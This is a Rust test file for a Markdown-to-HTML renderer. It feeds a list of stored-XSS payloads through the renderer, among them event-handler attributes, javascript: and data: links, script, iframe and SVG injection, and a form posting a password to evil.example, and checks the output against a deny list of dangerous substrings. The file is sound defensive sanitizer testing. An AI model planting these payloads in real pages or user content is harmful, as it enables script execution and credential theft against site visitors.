//! Server-side Markdown (`--features markdown`): the stored-XSS payloads that MarkdownJS must
//! survive in the browser, rendered by `markdown()` and checked on the HTML it returns.
#![cfg(feature = "markdown")]

use ft_html::markdown::{markdown, markdown_html};
use ft_html::prelude::*;

/// Each payload, as a user would store it in a todo's details.
const PAYLOADS: &[&str] = &[
    "<img src=x onerror=\"document.title='pwned'\">",
    "[click](javascript:document.title='pwned')",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<svg onload=alert(1)><circle r=5></svg>",
    "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
    "<script>window.pwned = 1</script>",
    "<details open ontoggle=alert(1)>x</details>",
    "<style>body{display:none}</style>",
    "<form action=https://evil.example><input name=pwd></form>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<p style=\"position:fixed;inset:0\">overlay</p>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "</div><script>alert(1)</script>",
];

fn assert_inert(html: &str) {
    let lower = html.to_ascii_lowercase();
    for bad in [
        "<script",
        "<iframe",
        "<svg",
        "<style",
        "<form",
        "<object",
        "<embed",
        "<math",
        "javascript:",
        "data:text",
        " on",
        "style=",
        "srcdoc",
    ] {
        assert!(!lower.contains(bad), "{bad:?} survived in {html:?}");
    }
}

#[test]
fn markdown_xss_payloads_are_inert() {
    for p in PAYLOADS {
        assert_inert(&markdown_html(p));
        // The same text among ordinary Markdown.
        assert_inert(&markdown_html(&format!(
            "# t\n\n- a\n- {p}\n\n> {p}\n\n**{p}**"
        )));
    }
}

#[test]
fn markdown_keeps_formatting_and_safe_links() {
    let html = markdown_html(
        "# Plan\n\n**bold** _it_ [site](https://example.com/a?b=1&c=2) [rel](/todos/3) \
         <mailto:a@example.com>\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n![logo](/static/logo.png)",
    );
    for want in [
        "<h1>Plan</h1>",
        "<strong>bold</strong>",
        "<em>it</em>",
        "<a href=\"https://example.com/a?b=1&amp;c=2\" rel=\"noopener noreferrer\">site</a>",
        "<a href=\"/todos/3\" rel=\"noopener noreferrer\">rel</a>",
        "<a href=\"mailto:a@example.com\" rel=\"noopener noreferrer\">",
        "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody>",
        "<img src=\"/static/logo.png\" alt=\"logo\">",
    ] {
        assert!(html.contains(want), "{want:?} missing from {html}");
    }
}

#[test]
fn markdown_code_classes_only_language() {
    let html = markdown_html("```rust\nfn x() {}\n```\n\n```evil class\nx\n```");
    assert!(html.contains("<code class=\"language-rust\">"), "{html}");
    // pulldown-cmark takes the first word of the info string; a class made of anything but
    // a language name is dropped.
    assert!(html.contains("<code class=\"language-evil\">"), "{html}");
    let raw = markdown_html("<code class=\"admin-only hidden\">x</code>");
    assert_eq!(raw, "<p><code>x</code></p>\n");
}

#[test]
fn markdown_is_a_raw_node_that_cannot_close_its_parent() {
    let node = markdown("a</div></article><b>b");
    assert!(matches!(node, Ft::Raw(_)));
    assert_eq!(
        Article!(node, id = "n").render(),
        // The stray end tags are dropped; the unclosed `<b>` is closed (and, as HTML parsers
        // do, reopened around the trailing newline) before the article ends.
        "<article id=\"n\"><p>a<b>b</b></p><b>\n</b></article>"
    );
}
